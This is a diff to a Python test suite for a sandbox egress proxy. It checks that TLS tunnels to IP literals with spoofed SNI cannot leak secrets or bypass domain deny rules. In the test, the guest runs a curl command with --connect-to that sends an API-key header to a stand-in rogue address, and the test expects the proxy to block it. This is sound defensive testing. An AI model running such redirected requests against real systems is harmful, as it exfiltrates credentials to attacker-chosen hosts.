@@ -494,32 +494,36 @@ def test_connect_tunnel_is_intercepted_and_checked_on_its_target(
     ]
 
 
-def test_connect_to_an_ip_needs_the_hello_to_name_that_ip(
+def test_a_tunnel_to_an_ip_meets_the_policy_with_its_sni_and_earns_no_secret_unverified(
     guest_link_factory: GuestLinkFactory, tmp_path: Path
 ) -> None:
-    """§8.5 step 2: inside a tunnel the SNI must equal the CONNECT host, an IP literal
-    too. Otherwise a CONNECT to any address with the SNI of a secret's host skips the
-    DNS-pin identity (tunnels do) and the secret goes to the guest's chosen address
-    whenever upstream verification does not stop it (here it is off)."""
+    """A CONNECT to an IP literal names no host to hold the hello to (§4.4): any SNI
+    may come. The DNS-pin identity is skipped in tunnels, so with upstream
+    verification off such a tunnel earned the SNI's secrets at the guest's chosen
+    address; and the SNI met no policy, so a domain deny rule was dodged."""
 
     async def body(s: Setup) -> None:
         proxy = ["-x", f"http://{PROXY_IP}:3128", "--cacert", s.ca_file]
-        r = await s.guest(
-            [
-                *("curl", "-sS", "--max-time", "10", *proxy),
-                *("--connect-to", f"{API}:443:{ROGUE_IP}:443"),
-                *("-H", "X-Key: $MSB_API_KEY", f"https://{API}/ip-tunnel"),
-            ]
-        )
-        assert r.returncode != 0
+        for name in (API, OTHER):
+            r = await s.guest(
+                [
+                    *("curl", "-sS", "--max-time", "10", *proxy),
+                    *("--connect-to", f"{name}:443:{ROGUE_IP}:443"),
+                    *("-H", "X-Key: $MSB_API_KEY", f"https://{name}/ip-tunnel"),
+                ]
+            )
+            assert r.returncode != 0
 
-    policy = {"default_egress": "allow", "rules": []}
+    policy = {
+        "default_egress": "allow",
+        "rules": [{"direction": "egress", "destination": {"domain": OTHER}, "action": "deny"}],
+    }
     s = run_tls(
         guest_link_factory(), tmp_path, body, policy=policy, tls={"verify_upstream": False}
     )
-    assert [r.split(b" ")[1] for r in s.proxy.requests] == [f"{ROGUE_IP}:443".encode()]
+    assert [r.split(b" ")[1] for r in s.proxy.requests] == [f"{ROGUE_IP}:443".encode()] * 2
     assert s.servers[ROGUE].received == []
-    assert s.reasons() == ["connect-sni-mismatch"]
+    assert s.reasons() == ["secret-violation", "sni-policy"]
 
 
 def test_a_tunnel_without_upstream_verification_gets_no_identity_bound_secret(
